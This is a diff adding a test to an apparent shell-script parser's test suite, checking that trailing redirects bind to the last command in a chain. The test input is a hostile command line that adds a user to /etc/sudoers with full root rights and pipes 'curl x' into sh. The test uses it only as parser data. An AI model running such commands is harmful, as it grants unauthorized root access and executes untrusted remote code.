@@ -310,6 +310,17 @@ def test_words_after_a_redirect_stay_arguments():
     assert redirects(command) == [(">", None, "/tmp/out", 5, 15), (">&", "2", "1", 30, 34)]
 
 
+def test_trailing_redirect_binds_to_the_last_command():
+    # tree-sitter hangs these redirects on the whole list or pipeline
+    commands = parse_script(
+        "useradd u && echo 'u ALL=(ALL) ALL' >> /etc/sudoers && id u; curl x | sh > log").commands
+    assert [texts(c) for c in commands] == [
+        ["useradd", "u"], ["echo", "u ALL=(ALL) ALL"], ["id", "u"], ["curl", "x"], ["sh"]]
+    assert [[r.target.text for r in c.redirects] for c in commands] == [
+        [], ["/etc/sudoers"], [], [], ["log"]]
+    assert (commands[1].start, commands[1].end) == (13, 51)
+
+
 def test_compound_redirects_apply_to_inner_commands():
     commands = parse_script("{ a; b; } > f; while read l; do x; done < list").commands
     assert [texts(c) for c in commands] == [["a"], ["b"], ["read", "l"], ["x"]]
